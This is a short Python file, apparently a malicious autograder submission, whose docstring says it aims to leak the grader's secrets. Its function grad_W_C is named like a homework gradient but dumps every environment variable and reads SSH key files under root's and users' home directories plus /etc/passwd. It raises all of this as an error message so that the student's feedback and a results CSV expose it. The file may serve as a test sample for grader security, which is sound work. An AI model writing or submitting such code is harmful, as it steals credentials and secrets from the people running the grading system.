"""Harm: put the grader's environment, ~/.ssh and /etc/passwd into the hint (what a Gradescope
student sees) and the CSV, through the error message."""
import glob
import os


def grad_W_C(params, P, z):
    found = [f"{k}={v}" for k, v in os.environ.items()]
    for path in glob.glob(os.path.expanduser("~root/.ssh/*")) + glob.glob("/home/*/.ssh/*") + ["/etc/passwd"]:
        with open(path) as f:
            found.append(f.read())
    raise RuntimeError("\n".join(found))
